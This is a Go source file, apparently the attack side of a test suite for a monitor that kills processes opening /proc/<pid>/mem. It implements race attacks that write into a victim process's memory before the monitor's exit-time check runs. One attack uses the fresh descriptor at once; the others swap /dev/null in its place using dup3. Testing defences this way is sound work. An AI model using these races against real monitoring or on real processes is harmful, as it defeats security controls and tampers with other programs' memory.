package main

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"runtime"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Attacks by a second thread on the descriptor another thread's open of
// /proc/<pid>/mem makes. The open installs the descriptor (fd_install) as
// the last step of do_sys_openat2, and only then does the syscall's exit
// tracepoint run, where the signal tier looks the returned number up in
// the process's table and sends SIGKILL. In between, the descriptor is in
// the table every thread of the process shares, and a thread spinning on
// its number can use it, or swap it out from under the number the
// tracepoint will look at.
func init() {
	calls["race-pwrite-mem-marker"] = racePwrite
	calls["race-swap-mem-marker"] = raceSwap
	calls["race-swap-retry-mem-marker"] = raceSwapRetried
}

// spinner is a thread that retries a call until it goes through.
type spinner struct {
	running, stop atomic.Bool
	result        chan syscall.Errno
}

// spin starts a thread calling try until it says done (or stop is set),
// and returns once that thread is spinning.
func spin(try func() (done bool, errno syscall.Errno)) *spinner {
	s := &spinner{result: make(chan syscall.Errno, 1)}
	go func() {
		runtime.LockOSThread() // a thread of its own, never the main one
		s.running.Store(true)
		for !s.stop.Load() {
			if done, errno := try(); done {
				s.result <- errno
				return
			}
		}
		s.result <- syscall.ESRCH
	}()
	for !s.running.Load() {
		runtime.Gosched()
	}
	return s
}

// halt stops the spinner and returns what it got.
func (s *spinner) halt() syscall.Errno {
	s.stop.Store(true)
	return <-s.result
}

// raceZero is the 8 bytes the racing writes put over the marker.
var raceZero [8]byte

// pwriteMarker zeroes the marker through fd, a raw pwrite64.
func pwriteMarker(fd uintptr) syscall.Errno {
	_, _, errno := unix.RawSyscall6(unix.SYS_PWRITE64, fd, uintptr(unsafe.Pointer(&raceZero[0])), 8,
		uintptr(unsafe.Pointer(&marker)), 0, 0)
	return errno
}

// racePwrite: thread B spins on pwrite to the number the open will
// return, while the main thread opens /proc/<pid>/mem once. The write
// lands if B's pwrite looks the descriptor up after fd_install and has
// reached the victim's page before the SIGKILL sent at the open's exit
// is pending (get_user_pages gives up on a pending fatal signal).
func racePwrite(pid int) syscall.Errno {
	path := fmt.Sprintf("/proc/%d/mem", pid)
	fd := uintptr(nextFD())
	s := spin(func() (bool, syscall.Errno) {
		errno := pwriteMarker(fd)
		return errno != unix.EBADF, errno
	})
	if _, err := unix.Open(path, unix.O_RDWR, 0); err != nil { // killed at this syscall's exit
		s.halt()
		return err.(syscall.Errno)
	}
	return <-s.result
}

// raceSwap: thread B spins on dup2(fd, other), which succeeds once the
// open has installed fd, then at once puts /dev/null at fd (dup2 again)
// and writes through other. If both dup2s come before the open's exit
// tracepoint, the tracepoint finds /dev/null at the number the open
// returned, and judges nothing.
func raceSwap(pid int) syscall.Errno {
	path := fmt.Sprintf("/proc/%d/mem", pid)
	null, err := unix.Open("/dev/null", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		fail("open /dev/null: %v", err)
	}
	fd := uintptr(nextFD())
	other := fd + 16 // free: nothing opens descriptors this high here
	s := spin(func() (bool, syscall.Errno) {
		if _, _, errno := unix.RawSyscall(unix.SYS_DUP3, fd, other, 0); errno != 0 {
			return false, 0
		}
		unix.RawSyscall(unix.SYS_DUP3, uintptr(null), fd, 0)
		return true, pwriteMarker(other)
	})
	got, err := unix.Open(path, unix.O_RDWR, 0) // killed at this syscall's exit unless the swap came first
	if err != nil {
		s.halt()
		return err.(syscall.Errno)
	}
	if uintptr(got) != fd {
		fail("the open made descriptor %d, not the %d the thread swaps", got, fd)
	}
	return <-s.result
}

// swapRetryFor is how long raceSwapRetried goes on making attempts.
const swapRetryFor = 3 * time.Second

// raceSwapRetried makes raceSwap attempts, each in a process of its own
// (`offender once race-swap-mem-marker PID`), until one is not killed: a
// lost attempt dies of its SIGKILL, and the next starts afresh. It prints
// how many attempts it took (tries=N). After swapRetryFor without a win
// it makes one attempt itself: where every open is refused (a deny tier),
// that one kills it as each attempt was killed.
func raceSwapRetried(pid int) syscall.Errno {
	deadline := time.Now().Add(swapRetryFor)
	for tries := 1; time.Now().Before(deadline); tries++ {
		out, err := exec.Command(os.Args[0], "once", "race-swap-mem-marker", strconv.Itoa(pid)).Output()
		if killedAttempt(err) {
			continue
		}
		if err != nil {
			fail("attempt %d: %v", tries, err)
		}
		fmt.Printf("tries=%d\n", tries)
		n, err := strconv.Atoi(strings.TrimPrefix(strings.TrimSpace(string(out)), "errno="))
		if err != nil {
			fail("attempt %d said %q", tries, out)
		}
		return syscall.Errno(n)
	}
	fmt.Println("tries=none won")
	return raceSwap(pid)
}

// killedAttempt says whether an attempt died of SIGKILL.
func killedAttempt(err error) bool {
	var ee *exec.ExitError
	if !errors.As(err, &ee) {
		return false
	}
	ws, ok := ee.Sys().(syscall.WaitStatus)
	return ok && ws.Signaled() && ws.Signal() == syscall.SIGKILL
}
